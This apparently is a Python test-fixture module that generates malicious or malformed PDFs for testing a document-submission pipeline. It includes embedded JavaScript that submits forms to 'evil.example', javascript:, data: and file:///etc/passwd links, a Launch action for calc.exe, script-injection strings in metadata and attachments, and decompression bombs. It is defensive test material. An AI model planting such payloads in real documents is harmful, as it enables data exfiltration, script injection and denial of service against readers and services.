"""PDFs that would act, lead elsewhere, never end, or are something else as well."""

from __future__ import annotations

import zlib

from tests.submissions.corpus import Awkward

FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
RUN = b"app.alert('hit'); this.submitForm('https://evil.example/');"


def stream(content: bytes, more: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), more, content)


def words(text: bytes) -> bytes:
    return b"BT /F1 18 Tf 72 700 Td (%s) Tj ET" % text


def pdf(
    *pages: bytes,
    root: bytes = b"",
    page: bytes = b"",
    trailer: bytes = b"",
    more: tuple = (),
    box: bytes = b"[0 0 595 842]",
) -> bytes:
    """A PDF of pages with such content; `more` objects have the numbers from 10 on."""
    pages = pages or (words(b"words of a report"),)
    first = 10 + len(more)
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % root,
        2: b"<< /Type /Pages /Count %d /Kids [%s] >>"
        % (len(pages), b" ".join(b"%d 0 R" % (first + 2 * n) for n in range(len(pages)))),
        3: FONT,
        **dict(enumerate(more, start=10)),
    }
    for n, content in enumerate(pages):
        objects[first + 2 * n] = (
            b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Resources << /Font << /F1 3 0 R >> "
            b"/XObject << /X 10 0 R >> >> /Contents %d 0 R %s >>" % (box, first + 2 * n + 1, page)
        )
        objects[first + 2 * n + 1] = stream(content)
    written, places = b"%PDF-1.7\n", {}
    for number, content in objects.items():
        places[number] = len(written)
        written += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = len(written)
    count = max(objects) + 1
    rows = [b"%010d 00000 n \n" % places[n] if n in places else b"0000000000 65535 f \n"
            for n in range(count)]  # fmt: skip
    end = b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n"
    head = b"xref\n0 %d\n" % count
    return written + head + b"".join(rows) + end % (count, trailer, table)


def action(what: bytes) -> bytes:
    return b"<< /Type /Annot /Subtype /Link /Rect [72 600 300 640] /A << %s >> >>" % what


def with_scripts() -> bytes:
    script = b"<< /S /JavaScript /JS (%s) >>" % RUN.replace(b"(", b"\\(").replace(b")", b"\\)")
    return pdf(
        root=b"/OpenAction 10 0 R /AA << /WC 10 0 R >> "
        b"/Names << /JavaScript << /Names [(a) 10 0 R] >> >>",
        page=b"/AA << /O 10 0 R >>",
        more=(script,),
    )


def with_links() -> bytes:
    links = [
        action(b"/S /URI /URI (https://example.org/paper)"),
        action(b"/S /URI /URI (javascript:hit\\(\\))"),
        action(b"/S /URI /URI (data:text/html,<script>hit\\(\\)</script>)"),
        action(b"/S /URI /URI (file:///etc/passwd)"),
        action(b"/S /Launch /F (calc.exe)"),
        action(b"/S /GoToR /F (other.pdf) /D [0 /Fit]"),
        action(b"/S /SubmitForm /F (https://evil.example/)"),
        action(b"/S /ImportData /F (x.fdf)"),
        b"<< /Type /Annot /Subtype /Link /Rect [72 500 300 540] /Dest [14 0 R /Fit] >>",
    ]
    annotations = b"/Annots [" + b" ".join(links) + b"]"
    outline = (
        b"<< /Type /Outlines /First 11 0 R /Last 11 0 R /Count 1 >>",
        b"<< /Title (<img src=x onerror=hit\\(\\)>) /Parent 10 0 R /Dest [14 0 R /Fit] >>",
    )
    return pdf(words(b"links of a report"), words(b"its second page"), page=annotations,
               root=b"/Outlines 10 0 R", more=outline)  # fmt: skip


def with_details() -> bytes:
    details = b"<< /Author (Ada Example) /Title (<script>hit\\(\\)</script>) /Creator (x) >>"
    return pdf(trailer=b"/Info 10 0 R", more=(details,))


def with_form() -> bytes:
    xfa = stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>hit()</script></xdp:xdp>")
    return pdf(root=b"/AcroForm << /Fields [] /XFA 10 0 R >>", more=(xfa,))


def with_attachment() -> bytes:
    file = stream(b"<script>hit()</script>", b"/Type /EmbeddedFile")
    spec = b"<< /Type /Filespec /F (run.html) /EF << /F 10 0 R >> >>"
    names = b"/Names << /EmbeddedFiles << /Names [(run.html) 11 0 R] >> >>"
    return pdf(root=names, more=(file, spec))


def locked() -> bytes:
    """Encrypted with a password that nobody knows."""
    key = b"/V 2 /R 3 /Length 128 /P -44 /Filter /Standard /O <%s> /U <%s>" % (
        b"ab" * 32,
        b"cd" * 32,
    )
    return pdf(trailer=b"/Encrypt << %s >> /ID [<%s> <%s>]" % (key, b"00" * 16, b"00" * 16))


def with_large_picture() -> bytes:
    """A gigapixel of one colour."""
    pixels = zlib.compress(bytes(5_000 * 40_000))
    head = (b"/Type /XObject /Subtype /Image /Width 40000 /Height 40000 /BitsPerComponent 1 "
            b"/ColorSpace /DeviceGray /Filter /FlateDecode")  # fmt: skip
    content = b"q 500 0 0 700 50 50 cm /X Do Q " + words(b"beside a large picture")
    return pdf(content, more=(stream(pixels, head),))


def with_itself() -> bytes:
    """A form that draws itself twice."""
    form = stream(b"/X Do /X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources "
                  b"<< /XObject << /X 10 0 R >> >>")  # fmt: skip
    return pdf(b"/X Do " + words(b"after itself"), more=(form,))


def circular() -> bytes:
    """A tree of pages that has itself for a branch."""
    return pdf().replace(b"/Kids [10 0 R]", b"/Kids [2 0 R] ")


def unpacking() -> bytes:
    """Packed, and packed again: a hundred megabytes of blanks."""
    content = zlib.compress(zlib.compress(b" " * 100_000_000, 9), 9)
    large = stream(content, b"/Filter [/FlateDecode /FlateDecode]")
    return pdf().replace(stream(words(b"words of a report")), large)


FILES = [
    Awkward("scripts.pdf", with_scripts, "report", shows="words of a report"),
    Awkward("links.pdf", with_links, "report", shows="links of a report"),
    Awkward("details.pdf", with_details, "report", shows="words of a report"),
    Awkward("form.pdf", with_form, "report", shows="words of a report"),
    Awkward("attachment.pdf", with_attachment, "report", shows="words of a report"),
    Awkward("thousands.pdf", lambda: pdf(*[words(b"one of many")] * 3_000), "report",
            shows="one of many"),
    Awkward("vast.pdf", lambda: pdf(box=b"[0 0 9000000 9]"), "report", shows=""),
    Awkward("no-size.pdf", lambda: pdf(box=b"[0 0 0 0]"), "report", shows="words of a report"),
    Awkward("large-picture.pdf", with_large_picture, "report", shows="beside a large picture"),
    Awkward("in-itself.pdf", with_itself, "report", shows="after itself"),
    Awkward("unpacking.pdf", unpacking, "report", shows=""),
    Awkward("page.pdf", lambda: pdf() + b"<script>hit()</script>", "report",
            shows="words of a report"),
    Awkward("page-in-front.pdf", lambda: b"%PDF-1.4 <script>hit()</script>\n" + pdf(), "report",
            shows="words of a report"),
    Awkward("locked.pdf", locked, refused="password", shows="protected by a password"),
    Awkward("circular.pdf", circular, "report", shows="damaged"),
    Awkward("cut-off.pdf", lambda: pdf()[:120], refused="no page", shows="damaged"),
    Awkward("nothing.pdf", lambda: b"%PDF-", refused="no page", shows="damaged"),
    Awkward("program.pdf", lambda: b"MZ\x90\0" + pdf(), refused="neither a PDF",
            shows="words of a report"),
]  # fmt: skip
